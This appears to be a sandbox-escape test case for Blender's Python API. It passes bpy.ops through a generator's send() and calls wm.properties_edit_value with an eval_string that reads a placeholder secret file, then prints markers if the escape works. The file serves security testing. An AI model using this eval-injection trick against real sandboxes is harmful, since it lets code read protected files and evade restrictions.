# attack: wm.properties_edit_value evaluates eval_string; operators through a generator's send()
# family: operators
import bpy


def box():
    while True:
        got = yield
        got.wm.properties_edit_value(data_path="scene", property_name="found", eval_string="[open('$SECRET_FILE').read()][0]")


bpy.context.scene["found"] = {"a": 1}
worker = box()
next(worker)
worker.send(bpy.ops)
found = bpy.context.scene["found"]
if isinstance(found, str):
    print("REACHED", "Python by wm.properties_edit_value")
    print("ESCAPED", found)
